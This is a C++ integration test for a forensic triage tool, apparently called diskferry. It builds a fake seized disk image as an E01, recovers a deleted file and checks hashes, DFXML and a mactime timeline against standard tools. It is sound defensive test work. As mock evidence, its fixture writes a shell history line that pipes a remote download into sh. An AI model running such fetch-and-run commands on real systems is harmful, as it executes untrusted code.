// examples/forensic-triage.yaml run for real on an E01 made by ewfacquire (17+ segments of
// 1 MiB) from an ext3 image made by mke2fs -d, one of whose files debugfs deleted. Checked
// against other tools: the recovered file against the original's sha256, the evidence
// records against sha256sum/md5sum of every segment, the E01's stored MD5 (ewfinfo)
// against `image verify`, the DFXML against the schema (xmllint) and the body file through
// mactime.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "tests/integration/fs_images.h"

namespace diskferry::testing {
namespace {

std::string ReadAll(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// The first field of a command's output (sha256sum's and md5sum's digest).
std::string FirstWord(const std::string& command) {
  std::string out;
  EXPECT_EQ(RunShell(command, &out), 0) << out;
  return out.substr(0, out.find_first_of(" \n"));
}

size_t Count(const std::string& text, const std::string& what) {
  size_t n = 0;
  for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) ++n;
  return n;
}

class ForensicExampleTest : public ::testing::Test {
 protected:
  void SetUp() override { dir_ = MakeScratchDir("forensic-example"); }
  void TearDown() override { RemoveTree(dir_); }

  // The seized machine: configuration, a shell history, a user's file, a log, a file
  // outside the triage selection, and /tmp/dropper, deleted after the image was made.
  void MakeEvidence() {
    const std::string t = dir_ + "/tree";
    std::string out;
    ASSERT_EQ(RunShell("set -e; cd '" + dir_ +
                           "'; mkdir -p tree/etc tree/root tree/home/alice tree/var/log "
                           "tree/tmp tree/srv; echo host7 >tree/etc/hostname; "
                           "echo 'curl http://x | sh' >tree/root/.bash_history; "
                           "head -c 300000 /dev/urandom >tree/home/alice/notes.bin; "
                           "echo 'Dec  1 sshd: accepted' >tree/var/log/auth.log; "
                           "head -c 5000 /dev/urandom >tree/srv/data; "
                           "head -c 70000 /dev/urandom >tree/tmp/dropper; "
                           "mke2fs -q -F -t ext3 -d tree host7.raw 32M; "
                           "(debugfs -w -R 'rm /tmp/dropper' host7.raw) >/dev/null 2>&1; "
                           "ewfacquire -u -q -t host7 -c none -S 1MiB -C 2026-114 -e examiner "
                           "-E HOST7-DISK0 host7.raw >/dev/null",
                       &out),
              0)
        << out;
    dropper_sha256_ = FirstWord("sha256sum '" + t + "/tmp/dropper'");
    e01_ = dir_ + "/host7.E01";
  }

  std::string dir_, e01_, dropper_sha256_;
};

TEST_F(ForensicExampleTest, TheTriageExampleRunsOnAnE01AndItsOutputsAgreeWithOtherTools) {
  ASSERT_NO_FATAL_FAILURE(MakeEvidence());
  struct stat st {};
  ASSERT_EQ(::stat((dir_ + "/host7.E02").c_str(), &st), 0) << "ewfacquire made one segment";

  // The E01's own check first, as an examiner would: the stored MD5 is the raw image's.
  std::string out;
  ASSERT_EQ(RunShell(Diskferry("image verify --format ewf '" + e01_ + "'"), &out), 0) << out;
  EXPECT_NE(out.find(FirstWord("md5sum '" + dir_ + "/host7.raw'")), std::string::npos) << out;

  const std::string results = dir_ + "/case/diskferry";  // made by the run
  ASSERT_EQ(RunShell(Diskferry("run '" + std::string(DF_EXAMPLES_DIR) +
                               "/forensic-triage.yaml' --var image='" + e01_ + "' --var out='" +
                               results + "' --report '" + results + "/run.jsonl'"),
                     &out),
            0)
      << out;

  // Triage: the selected files, not /srv; the deleted file with its original bytes.
  EXPECT_EQ(ReadAll(results + "/triage/etc/hostname"), "host7\n");
  EXPECT_TRUE(std::filesystem::exists(results + "/triage/home/alice/notes.bin"));
  EXPECT_FALSE(std::filesystem::exists(results + "/triage/srv"));
  EXPECT_EQ(FirstWord("sha256sum '" + results + "/triage.deleted/tmp/dropper'"), dropper_sha256_);

  // Evidence: one record per segment file per job, each equal to sha256sum and md5sum.
  const std::string report = ReadAll(results + "/run.jsonl");
  size_t segments = 0;
  for (const auto& entry : std::filesystem::directory_iterator(dir_)) {
    const std::string name = entry.path().filename().string();
    if (name.rfind("host7.E", 0) != 0) continue;
    ++segments;
    const std::string path = entry.path().string();
    const std::string sha = FirstWord("sha256sum '" + path + "'");
    const std::string md5 = FirstWord("md5sum '" + path + "'");
    EXPECT_EQ(Count(report, "\"path\":\"" + path + "\""), 2u) << path;
    EXPECT_EQ(Count(report, "\"sha256\":\"" + sha + "\""), 4u) << path;  // 2 jobs, before+after
    EXPECT_EQ(Count(report, "\"md5\":\"" + md5 + "\""), 4u) << path;
  }
  EXPECT_GE(segments, 17u);
  EXPECT_EQ(Count(report, "\"record\":\"evidence\""), 2 * segments);
  EXPECT_EQ(Count(report, "\"match\":true"), 2 * segments);
  EXPECT_NE(report.find("1 deleted file recovered, 0 could not be"), std::string::npos);
  EXPECT_GE(Count(report, "\"examiner\":\"A. Examiner\""), 3u);  // run record and both jobs

  // DFXML: valid against the schema, with the case and every segment's digests.
  const std::string xml = ReadAll(results + "/inventory.xml");
  ASSERT_EQ(RunShell("xmllint --noout --nonet --schema '" + std::string(DF_DFXML_XSD) + "' '" +
                         results + "/inventory.xml' '" + results + "/triage.xml'",
                     &out),
            0)
      << out;
  EXPECT_NE(xml.find("<diskferry:id>2026-114</diskferry:id>"), std::string::npos);
  EXPECT_EQ(Count(xml, "<image_filename "), segments);
  EXPECT_NE(xml.find("<filename>srv/data</filename>"), std::string::npos);
  const std::string triage_xml = ReadAll(results + "/triage.xml");
  EXPECT_NE(triage_xml.find("<alloc>0</alloc>"), std::string::npos);  // the recovered file

  // The body file through mactime: a timeline row per file, the user's file among them.
  ASSERT_EQ(RunShell("mactime -b '" + results + "/inventory.body' -d -y -z UTC", &out), 0) << out;
  EXPECT_NE(out.find("/home/alice/notes.bin"), std::string::npos) << out;
  EXPECT_NE(out.find(",300000,"), std::string::npos) << out;
}

}  // namespace
}  // namespace diskferry::testing
